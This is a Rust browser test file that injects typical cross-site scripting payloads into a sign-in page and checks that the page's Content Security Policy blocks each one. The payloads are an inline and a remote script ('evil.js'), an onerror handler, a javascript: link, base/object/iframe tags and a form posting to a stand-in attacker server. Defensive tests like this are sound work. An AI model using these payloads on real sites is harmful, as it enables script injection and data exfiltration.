//! What a page would do if somebody got markup into it.

use crate::common::Visit;
use crate::world::World;
use keyward_testbed::smtp::{SmtpOptions, SmtpServer};

/// Puts markup into the page as an injection would, and runs what can be run.
const INJECT: &str = "
    window.reached = [];
    const add = (name, attributes, text) => {
        const element = document.createElement(name);
        for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
        element.textContent = text || '';
        document.body.append(element);
        return element;
    };
    add('script', {}, 'window.reached.push(\"inline\")');
    add('script', { src: 'data:text/javascript,window.reached.push(\"data\")' });
    add('script', { src: arguments[0] + '/evil.js' });
    add('img', { src: 'x', onerror: 'window.reached.push(\"handler\")' });
    add('a', { href: 'javascript:window.reached.push(\"link\")' }).click();
    add('base', { href: arguments[0] + '/' });
    add('object', { data: arguments[0] + '/plugin' });
    add('iframe', { src: arguments[0] + '/frame' });
    const form = add('form', { action: arguments[0] + '/take', method: 'post' });
    form.submit();";

// case: CJ-02
#[tokio::test]
async fn cj_02_injected_markup_runs_loads_and_sends_nothing() {
    let world = World::start();
    // Somebody else's server: it hears nothing. Any that listens will do.
    let evil = SmtpServer::start(&SmtpOptions::default());
    let browser = world.visitor().await;
    world.open(&browser, "/signin").await;
    let address = format!("http://127.0.0.1:{}", evil.port());
    let address = serde_json::json!(address);
    browser
        .client()
        .execute(INJECT, vec![address])
        .await
        .unwrap();
    let expected = ["script-src", "base-uri", "object-src", "form-action"];
    let mut complaints = String::new();
    for directive in expected {
        let tries = 200;
        for _ in 0..tries {
            complaints += &browser.console().await.join("\n");
            if complaints.contains(directive) {
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(25)).await;
        }
        assert!(
            complaints.contains(directive),
            "{directive} of {complaints}"
        );
    }
    let reached = browser
        .client()
        .execute("return window.reached", Vec::new())
        .await
        .unwrap();
    assert_eq!(reached, serde_json::json!([]));
    assert!(browser.url().await.ends_with("/signin"));
    browser.wait_text("Forgot my password").await;
}
